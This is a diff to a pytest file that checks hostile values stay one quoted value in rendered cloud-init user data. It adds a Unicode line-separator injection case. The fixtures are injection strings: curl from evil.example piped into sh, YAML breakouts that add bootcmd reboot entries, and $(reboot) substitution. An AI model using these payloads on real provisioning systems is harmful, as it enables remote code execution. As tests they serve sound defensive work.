@@ -16,7 +16,8 @@ SHELL_BREAKOUT = "x'; curl http://evil.example/p | sh; echo '"
 YAML_BREAKOUT = "x'\nbootcmd:\n  - [sh, -c, 'curl http://evil.example/p | sh']\nruncmd: []\n#"
 # YAML reads \r, NEL, LS and PS as line breaks too; a block re-indented on \n alone would be escaped by them.
 OTHER_BREAKS = "x\r\nbootcmd: [reboot]\u2028bootcmd: [reboot]\x85bootcmd: [reboot]\u2029#"
-HOSTILE = [SHELL_BREAKOUT, YAML_BREAKOUT, OTHER_BREAKS, "$(reboot)`reboot`\"; reboot #"]
+LINE_SEPARATOR = "x\nruncmd: []\u2028bootcmd: [reboot]\n#"
+HOSTILE = [SHELL_BREAKOUT, YAML_BREAKOUT, OTHER_BREAKS, LINE_SEPARATOR, "$(reboot)`reboot`\"; reboot #"]
 TOP_LEVEL_KEYS = ["hostname", "package_update", "packages", "write_files", "runcmd"]
 
 
@@ -57,7 +58,7 @@ def user_data(hostile: str, role: str, via_ssm: bool) -> str:
 
 @pytest.mark.parametrize("via_ssm", [False, True], ids=["inline", "ssm"])
 @pytest.mark.parametrize("role", ["server", "agent"])
-@pytest.mark.parametrize("hostile", HOSTILE, ids=["shell", "yaml", "other-breaks", "substitution"])
+@pytest.mark.parametrize("hostile", HOSTILE, ids=["shell", "yaml", "other-breaks", "line-separator", "substitution"])
 def test_a_hostile_value_stays_one_quoted_value_in_the_rendered_user_data(hostile, role, via_ssm):
     document = yaml.safe_load(user_data(hostile, role, via_ssm))
 
